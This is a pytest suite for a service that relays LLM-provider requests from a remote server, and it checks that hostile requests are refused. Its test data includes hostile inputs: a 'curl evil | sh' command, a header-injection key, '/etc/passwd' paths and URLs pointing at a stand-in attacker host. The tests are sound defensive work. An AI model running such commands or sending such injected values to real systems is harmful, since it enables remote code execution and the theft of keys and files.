"""Provider requests relayed from a server: a hostile one gets no keys, no money and no access."""

import asyncio
import hashlib
import uuid
from collections.abc import Coroutine
from pathlib import Path
from typing import Any

import pytest

from engine.protocol.config.project import ProjectConfig
from engine.protocol.events.run import RunFinished, RunStarted
from engine.protocol.problems import Refused
from engine.protocol.records.runs import RunSpec
from engine.protocol.requests.home import HomeRequest
from engine.remote.home_requests import HomeRequestService, Trial
from engine.remote.server_list import server_list_file
from engine.remote.started_runs import FOLDER, StartedRun, StartedRuns, check_spec
from engine.runtime.ids import ulid
from engine.storage.run_db.writer import RunWriter
from engine.storage.run_folder.run import DATABASE

HOST, HOME_URL, EVIL_URL = "box", "https://provider.example/v1", "http://evil.example/v1"
KEY = hashlib.sha256(b"question").hexdigest()
CONFIG = ProjectConfig.model_validate(
    {
        "judge": {
            "enabled": True,
            "models": ["openai/judge"],
            "base_url": HOME_URL,
            "max_tokens": 1000,
            "budget_usd": 0.05,
            "price_prompt": 0,
            "price_completion": 10,
        },
        "evaluate": {
            "base_url": HOME_URL,
            "max_tokens": 500,
            "budget_usd": 1,
            "price_prompt": 10,
            "price_completion": 10,
        },
    }
)


class RecordingProvider:
    """Provider stub that records requests."""

    alive, pid = True, 0

    def __init__(self) -> None:
        self.requests: list[tuple[str, dict[str, Any]]] = []

    async def ask(self, op: str, **fields: Any) -> Any:
        self.requests.append((op, fields))
        if op == "count":
            return {"tokens": [1]}
        if op == "price":
            return {"prompt": 1e-6, "completion": 1e-6}
        return {"reply": "0.5", "metered": False}

    async def close(self) -> None:
        """Do nothing: there is no process."""


class HomeRequestHarness:
    """Service with one run that was started on HOST."""

    def __init__(self, project: Path) -> None:
        self.provider, self.runs = RecordingProvider(), StartedRuns()
        self.run = StartedRun(
            run_id=ulid(),
            host=HOST,
            project=str(project),
            config=CONFIG,
            providers=["openai/teacher"],
        )
        self.runs.add(self.run)
        self.service = HomeRequestService(self.runs, self._start_provider)

    async def _start_provider(self) -> RecordingProvider:
        return self.provider

    def request(self, op: str, run_id: str = "", **fields: Any) -> HomeRequest:
        run_id = run_id or self.run.run_id
        return HomeRequest(id=uuid.uuid4().hex, run_id=run_id, op=op, fields=fields)

    def answer(self, op: str, host: str = HOST, run_id: str = "", **fields: Any) -> Any:
        return asyncio.run(self.service.answer(host, self.request(op, run_id, **fields)))

    def assert_refused(self, why: str, op: str, **more: Any) -> None:
        """Assert that the request is refused and nothing reaches a provider."""
        before = len(self.provider.requests)
        with pytest.raises(Refused, match=why) as error:
            self.answer(op, **more)
        assert error.value.problem.code == "home_request.refused"
        assert len(self.provider.requests) == before


@pytest.fixture
def harness(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> HomeRequestHarness:
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
    return HomeRequestHarness(tmp_path / "project")


def judge_request(**more: Any) -> dict[str, Any]:
    return {
        "key": KEY,
        "model": "openai/judge",
        "provider": "openai",
        "messages": [{"role": "user", "content": "Which is better?"}],
        "base_url": HOME_URL,
        "max_tokens": 1000,
        "temperature": 0.0,
        "timeout_s": 120,
        "attempt": 0,
    } | more


def chat_request(request: dict[str, Any] | None = None, **more: Any) -> dict[str, Any]:
    defaults = {"messages": [{"role": "user", "content": "Hello"}], "max_tokens": 100}
    return {
        "key": f"attempt:{KEY}",
        "model": "openai/teacher",
        "provider": "openai",
        "request": defaults | (request or {}),
        "base_url": HOME_URL,
        "timeout_s": 120,
        "attempt": 0,
    } | more


def test_judge_request_uses_the_settings_of_the_run(harness: HomeRequestHarness) -> None:
    assert harness.answer("ask", **judge_request(provider="other", timeout_s=1e9, max_tokens=10**9))
    op, fields = harness.provider.requests[-1]
    assert op == "ask"
    assert fields == judge_request()
    assert harness.answer("count", model="openai/judge", questions=[judge_request()["messages"]])
    assert harness.answer("price", model="openai/judge")


def test_agent_request_is_forwarded(harness: HomeRequestHarness) -> None:
    request = {
        "messages": [
            {"role": "system", "content": "You help."},
            {"role": "user", "content": [{"type": "text", "text": "Hello"}]},
            {
                "role": "assistant",
                "content": None,
                "tool_calls": [
                    {"id": "1", "type": "function", "function": {"name": "f", "arguments": "{}"}}
                ],
            },
            {"role": "tool", "tool_call_id": "1", "content": "4"},
        ],
        "tools": [
            {"type": "function", "function": {"name": "f", "parameters": {"type": "object"}}}
        ],
        "tool_choice": "auto",
        "stop": ["\n"],
        "top_p": 0.5,
        "temperature": 1.5,
        "max_tokens": 100,
    }
    assert harness.answer("chat", **chat_request(request))
    op, fields = harness.provider.requests[-1]
    assert op == "chat"
    assert fields == chat_request(request)


def test_key_is_never_sent_to_another_address(harness: HomeRequestHarness) -> None:
    harness.assert_refused("does not use the address", "ask", **judge_request(base_url=EVIL_URL))
    harness.assert_refused("does not use the address", "ask", **judge_request(base_url=None))
    harness.assert_refused("does not use the address", "chat", **chat_request(base_url=EVIL_URL))


@pytest.mark.parametrize("model", ["anthropic/claude", "openai/dear", "openai/teacher", "../x", ""])
def test_other_models_are_refused(harness: HomeRequestHarness, model: str) -> None:
    harness.assert_refused("was not started with the model", "ask", **judge_request(model=model))
    harness.assert_refused("was not started with the model", "count", model=model, questions=[])
    if model != "openai/teacher":
        harness.assert_refused(
            "was not started with the model", "chat", **chat_request(model=model)
        )
        harness.assert_refused("was not started with the model", "price", model=model)


@pytest.mark.parametrize("op", ["keys", "cancel", "__class__", "", "ASK"])
def test_other_operations_are_refused(harness: HomeRequestHarness, op: str) -> None:
    harness.assert_refused("is unknown", op, keys={"openai": "x"})


@pytest.mark.parametrize(
    "more",
    [
        {"api_base": EVIL_URL},
        {"extra_headers": {"x": "y"}},
        {"api_key": "x"},
        {"key": "x\r\nHost: evil"},
        {"key": ""},
        {"attempt": -1},
        {"attempt": 10**9},
        {"temperature": float("nan")},
        {"temperature": 99},
        {"max_tokens": 0},
        {"messages": []},
        {"messages": "text"},
        {"messages": [{"role": "user", "content": [{"type": "image_url", "image_url": EVIL_URL}]}]},
        {"messages": [{"role": "nobody", "content": "x"}]},
        {"messages": [{"role": "user", "content": "x" * (2**23 + 1)}]},
    ],
    ids=lambda more: repr(more)[:40],
)
def test_judge_request_fields_are_allow_listed(
    harness: HomeRequestHarness, more: dict[str, Any]
) -> None:
    harness.assert_refused("refused", "ask", **judge_request(**more))


@pytest.mark.parametrize(
    "request_",
    [
        {"api_base": EVIL_URL},
        {"base_url": EVIL_URL},
        {"extra_headers": {"x": "y"}},
        {"extra_body": {"x": "y"}},
        {"custom_llm_provider": "evil"},
        {"mock_response": "x"},
        {"fallbacks": ["openai/dear"]},
        {"model": "openai/dear"},
        {"n": 1000},
        {"tools": [{"type": "mcp", "server_url": EVIL_URL}]},
        {"tools": [{"type": "web_search"}]},
        {"tool_choice": {"type": "mcp", "server_url": EVIL_URL}},
        {"messages": [{"role": "user", "content": [{"type": "image_url", "image_url": EVIL_URL}]}]},
        {"messages": [{"role": "user", "content": [{"type": "file", "file": {"file_id": "x"}}]}]},
        {"temperature": float("inf")},
        {"max_tokens": -5},
    ],
    ids=lambda request: repr(request)[:40],
)
def test_agent_request_fields_are_allow_listed(
    harness: HomeRequestHarness, request_: dict[str, Any]
) -> None:
    harness.assert_refused("refused", "chat", **chat_request(request_))


def test_run_of_another_machine_or_host_is_refused(harness: HomeRequestHarness) -> None:
    harness.assert_refused(
        "was not started from this machine", "ask", run_id=ulid(), **judge_request()
    )
    harness.assert_refused(
        "was not started from this machine", "ask", host="other", **judge_request()
    )


def test_ended_run_is_refused_until_resumed(harness: HomeRequestHarness) -> None:
    harness.run.folder.mkdir(parents=True)

    async def end() -> None:
        writer = RunWriter(harness.run.folder / DATABASE, harness.run.run_id)
        await writer.say(RunStarted(spec=spec_of(harness.run)))
        assert await harness.service.answer(HOST, harness.request("ask", **judge_request()))
        await writer.say(RunFinished(step=1, seconds=1.0))
        await asyncio.to_thread(writer.close)

    asyncio.run(end())
    harness.assert_refused("the run has ended", "ask", **judge_request())
    trial = Trial(harness.run.run_id, HOST, Path(harness.run.project), CONFIG.judge)
    with harness.service.trial(trial):
        assert harness.answer("ask", **judge_request())
    harness.assert_refused("the run has ended", "ask", **judge_request())
    harness.service.resume(HOST, harness.run.folder)
    assert harness.answer("ask", **judge_request())


def test_trial_allows_its_own_judge_while_it_lasts(harness: HomeRequestHarness) -> None:
    other = CONFIG.judge.model_copy(update={"models": ("openai/other",), "base_url": None})
    request = judge_request(model="openai/other", base_url=None)
    trial = Trial(harness.run.run_id, HOST, Path(harness.run.project), other)
    with harness.service.trial(trial):
        assert harness.answer("ask", **request)
        assert harness.answer("ask", **judge_request())
        harness.assert_refused(
            "was not started from this machine", "ask", host="elsewhere", **request
        )
        harness.assert_refused(
            "does not use the address", "ask", **(request | {"base_url": EVIL_URL})
        )
    harness.assert_refused("was not started with the model", "ask", **request)


def test_budget_is_enforced_locally_and_survives_a_restart(harness: HomeRequestHarness) -> None:
    """1 000 completion tokens at $10 per million: one cent each; five cents are allowed."""
    for _ in range(5):
        assert harness.answer("ask", **judge_request())
    with pytest.raises(Refused, match="budget of run") as error:
        harness.answer("ask", **judge_request())
    assert error.value.problem.code == "judge.budget"
    assert len(harness.provider.requests) == 5
    restarted = HomeRequestService(StartedRuns(), harness._start_provider)
    with pytest.raises(Refused, match="budget of run"):
        asyncio.run(restarted.answer(HOST, harness.request("ask", **judge_request())))
    assert len(harness.provider.requests) == 5


def test_concurrent_requests_do_not_exceed_the_budget(harness: HomeRequestHarness) -> None:
    async def many() -> list[Any]:
        requests = [harness.request("ask", **judge_request()) for _ in range(40)]
        request: list[Coroutine[Any, Any, Any]] = [
            harness.service.answer(HOST, one) for one in requests
        ]
        return await asyncio.gather(*request, return_exceptions=True)

    answers = asyncio.run(many())
    assert sum(isinstance(one, Refused) for one in answers) == 35
    assert len(harness.provider.requests) == 5


def test_record_is_private_and_run_ids_cannot_be_taken_over(harness: HomeRequestHarness) -> None:
    folder = server_list_file().parent / FOLDER
    assert folder.stat().st_mode & 0o077 == 0
    for change in ({"host": "evil"}, {"project": "/elsewhere"}):
        with pytest.raises(Refused, match="an id that another run already has"):
            StartedRuns().add(harness.run.model_copy(update=change))
    StartedRuns().add(harness.run)
    assert StartedRuns().find("../../" + "0" * 20, HOST) is None


@pytest.mark.parametrize(
    ("section", "change"),
    [
        ("judge", {"base_url": EVIL_URL}),
        ("judge", {"models": ("openai/dear",)}),
        ("judge", {"budget_usd": None}),
        ("judge", {"rubric": "/etc/passwd"}),
        ("evaluate", {"base_url": EVIL_URL}),
        ("agent", {"command": "curl evil | sh"}),
        ("agent", {"python": "/tmp/evil"}),
        ("scenarios", {"train": "/etc/passwd"}),
        ("track", {"otel": {"on": True, "endpoint": EVIL_URL}}),
    ],
)
def test_settings_changed_by_a_server_are_rejected(
    harness: HomeRequestHarness, section: str, change: dict[str, Any]
) -> None:
    spec = spec_of(harness.run)
    check_spec(spec, spec.id, CONFIG, HOST)
    values = CONFIG.model_dump()
    values[section] |= change
    changed = spec.model_copy(update={"config": ProjectConfig.model_validate(values)})
    with pytest.raises(Refused, match=rf"The \[{section}\] settings"):
        check_spec(changed, spec.id, CONFIG, HOST)
    with pytest.raises(Refused, match="sent run"):
        check_spec(spec.model_copy(update={"id": ulid()}), spec.id, CONFIG, HOST)


def spec_of(run: StartedRun) -> RunSpec:
    return RunSpec(
        id=run.run_id, name="a", project="p", started_at=1.0, config=run.config, model_path="m"
    )
